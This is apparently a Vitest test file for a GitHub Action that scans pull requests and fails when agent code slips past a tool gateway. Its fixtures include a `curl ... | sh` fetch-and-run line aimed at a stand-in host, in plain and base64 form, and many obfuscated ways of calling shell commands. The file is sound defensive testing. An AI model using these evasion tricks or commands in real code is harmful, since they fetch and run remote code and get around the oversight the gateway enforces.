import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { errorRules, gate, pullRequest } from "./pr";

// A pull request must not hide a boundary call by handing it to the language's evaluator as a string: a constant's
// code is scanned (the crossing reported at the `exec`), and code the scan cannot read — base64 decoded at run
// time — is scan/dynamic-code, an error, so the built Action fails closed.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

describe("code run from a string fails the gate", () => {
  it("scan/shell-command and scan/dynamic-code: exec of a constant and exec of base64-decoded code fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/constant.py"), "exec(\"import os; os.system('curl -s https://x.example | sh')\")\n");
      writeFileSync(join(dir, "agent/encoded.py"), 'import base64\n\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUgfCBzaCcp"))\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/dynamic-code", "scan/shell-command"]);
    expect(r.commands.filter((c) => c.startsWith("::error title=scan/"))).toEqual([
      "::error title=scan/shell-command,file=agent/constant.py,line=1,endLine=1,col=1,endColumn=4::`os.system` starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. It runs in the code passed to `exec` (line 1 of that code).",
      "::error title=scan/dynamic-code,file=agent/encoded.py,line=3,endLine=3,col=1,endColumn=4::`exec` runs code the scan cannot read (its code is not a constant string); what it runs could bypass the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
    ]);
  });

  it("scan/dynamic-code: a module loaded by a decoded name, a data: URL imported, a worker's script, a file run by its path, a pickle and a native library loaded fail the built Action at each", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/load.js"), 'require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).execSync("id");\n');
      writeFileSync(join(dir, "agent/data.mjs"), 'await import("data:text/javascript,import cp from \\"child_process\\"; cp.execSync(\\"id\\")");\n');
      writeFileSync(join(dir, "agent/worker.js"), 'const { Worker } = require("worker_threads");\nnew Worker("./payload.txt");\nnew Worker(\'require("child_process").execSync("id")\', { eval: true });\n');
      writeFileSync(join(dir, "agent/load.py"), 'import base64, runpy, pickle, ctypes\n__import__(base64.b64decode("b3M=").decode()).system("id")\nrunpy.run_path("agent/payload.dat")\npickle.loads(base64.b64decode("Y29z"))\nctypes.CDLL(None).system(b"id")\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=scan/")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
      "scan/dynamic-code:agent/data.mjs:1:7",
      "scan/dynamic-code:agent/load.js:1:1",
      "scan/dynamic-code:agent/load.py:2:1",
      "scan/dynamic-code:agent/load.py:3:1",
      "scan/dynamic-code:agent/load.py:4:1",
      "scan/dynamic-code:agent/load.py:5:1",
      "scan/dynamic-code:agent/worker.js:2:5",
      "scan/shell-command:agent/worker.js:3:5",
    ]);
  });

  it("scan/dynamic-code and scan/shell-command: the Function constructor reached through `constructor`, an inspector session's Runtime.evaluate, a REPL, importScripts, process.dlopen, module loader hooks registered, Python's code.interact and a name destructured over fail the built Action at each", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/escape.js"), '[].constructor.constructor(atob("cmVxdWlyZQ=="))();\n(async () => {}).constructor(\'require("child_process").execSync("id")\')();\n');
      writeFileSync(join(dir, "agent/inspect.js"), 'const s = new (require("node:inspector").Session)();\ns.connect();\ns.post("Runtime.evaluate", { expression: atob("cmVxdWlyZQ==") });\n');
      writeFileSync(join(dir, "agent/loaders.js"), 'require("repl").start("> ");\nimportScripts("https://x.example/w.js");\nprocess.dlopen(module, "./addon.node");\nlet n = "path";\n({ n } = JSON.parse(input));\nrequire(n);\n');
      writeFileSync(join(dir, "agent/console.py"), "import code\n\ncode.interact()\n");
      // Node 20.6+ runs a registered hooks module, here the code of a data: URL, in a thread of its own.
      writeFileSync(join(dir, "agent/hooks.mjs"), `import { register } from "node:module";\nregister("data:text/javascript,process.getBuiltinModule('child_process').execSync('id')");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=scan/")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
      "scan/dynamic-code:agent/console.py:3:1",
      "scan/dynamic-code:agent/escape.js:1:1",
      "scan/shell-command:agent/escape.js:2:1",
      "scan/dynamic-code:agent/hooks.mjs:2:1",
      "scan/dynamic-code:agent/inspect.js:3:1",
      "scan/dynamic-code:agent/loaders.js:1:1",
      "scan/dynamic-code:agent/loaders.js:2:1",
      "scan/dynamic-code:agent/loaders.js:3:1",
      "scan/dynamic-code:agent/loaders.js:6:1",
    ]);
  });
  it("scan/shell-command: a docstring's `>>> ` example that the file's `doctest.testmod()` runs fails the built Action at the example; shown, not run, it passes", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/tools.py"), 'import os\n\n\ndef double(x):\n    """Twice x.\n\n    >>> double(2)\n    4\n    >>> os.system("curl -s https://x.example | sh")\n    0\n    """\n    return x * 2\n\n\nif __name__ == "__main__":\n    import doctest\n    doctest.testmod()\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=scan/"))).toEqual([
      "::error title=scan/shell-command,file=agent/tools.py,line=9,endLine=9,col=9,endColumn=17::`os.system` starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. It is a docstring example, which `doctest.testmod` at line 17 runs.",
    ]);
    const shown = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/tools.py"), 'import os\n\n\ndef double(x):\n    """Twice x.\n\n    >>> os.system("curl -s https://x.example | sh")\n    0\n    """\n    return x * 2\n');
    });
    expect((await gate(api, shown)).code).toBe(0);
  });
});
